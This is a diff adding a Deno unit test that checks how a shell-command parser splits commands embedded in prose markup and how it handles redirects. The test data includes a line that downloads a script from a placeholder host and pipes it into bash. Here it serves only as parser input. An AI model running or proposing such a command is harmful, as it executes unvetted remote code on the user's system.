@@ -100,3 +100,13 @@ Deno.test("commands and words are bounded, and nesting without end comes to one"
     parseCommands(pump.repeat(3_000), { isProse: false });
   }
 });
+
+Deno.test("in prose markup parts commands, and its signs redirect nothing", () => {
+  const text = '<array><string>curl -s https://x.example/a | bash</string><string lang="en">ls</string></array>';
+  assert.deepEqual(parseCommands(text, { isProse: true }).map(({ argv }) => argv.join(" ")), [
+    "curl -s https://x.example/a",
+    "bash",
+    "ls",
+  ]);
+  assert.deepEqual(parseCommands("cat <in >out", { isProse: false })[0]?.redirects, ["<in", "out"]);
+});
